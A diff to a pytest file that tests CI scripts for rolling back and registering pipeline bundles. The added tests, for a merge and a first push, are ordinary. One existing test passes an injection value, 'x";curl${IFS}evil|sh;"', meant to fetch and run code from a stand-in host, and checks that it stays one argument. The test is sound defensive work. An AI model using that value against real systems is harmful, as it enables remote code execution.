@@ -124,3 +124,28 @@ def test_what_was_chosen_reaches_a_verb_as_one_word(tmp_path: Path) -> None:
     hostile = 'x";curl${IFS}evil|sh;"'
     run(tmp_path, script("rollback/rollback", "Propose the bundle before"), PIPELINES=hostile, ENVIRONMENT="prod")
     assert calls(tmp_path) == [f"rollback {hostile} --env prod --propose"]
+
+
+@needs_jq
+def test_what_a_merge_left_to_ci_is_made_and_registered_as_well(tmp_path: Path) -> None:
+    """`plan` names what the merge affects, beside the bundles that it brought."""
+    (tmp_path / "pipelines/home/reports").mkdir(parents=True)
+    (tmp_path / "pipelines/home/reports/bundle.json").write_text("{}")
+    before = commit(tmp_path, "before")
+    (tmp_path / "pipelines/home/reports/bundle.json").write_text('{"digest": 1}')
+    commit(tmp_path, "merge")
+    fake(tmp_path, """echo '{"affected": ["left", "home"]}'""")
+    done = run(tmp_path, script("main/register", "Find the new bundles"), BEFORE=before)
+    assert done.returncode == 0, done.stderr
+    assert outputs(tmp_path) == {"names": "home left"}
+    assert calls(tmp_path) == [f"plan --base {before} -o json"]
+
+
+def test_a_first_push_takes_every_bundle(tmp_path: Path) -> None:
+    (tmp_path / "pipelines/home/reports").mkdir(parents=True)
+    (tmp_path / "pipelines/home/reports/bundle.json").write_text("{}")
+    commit(tmp_path, "first")
+    fake(tmp_path)
+    assert run(tmp_path, script("main/register", "Find the new bundles"), BEFORE="").returncode == 0
+    assert outputs(tmp_path) == {"names": "home"}
+    assert calls(tmp_path) == []
